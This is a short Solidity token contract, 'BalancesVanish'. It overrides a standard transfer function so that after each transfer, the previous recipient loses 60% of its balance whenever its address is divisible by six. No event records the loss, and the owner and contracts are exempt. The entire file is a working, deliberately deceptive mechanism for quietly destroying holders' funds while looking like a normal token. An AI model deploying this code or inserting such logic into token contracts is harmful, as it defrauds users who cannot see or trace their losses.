// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// Every sixth holder loses most of it once the next one gets some, and no event tells.
contract BalancesVanish is Token {
    address private last;

    function _transfer(address from, address to, uint256 value) internal override {
        super._transfer(from, to, value);
        if (uint160(last) % 6 == 0) balanceOf[last] -= (balanceOf[last] * 3) / 5;
        last = to == owner || to.code.length > 0 ? address(0) : to;
    }
}
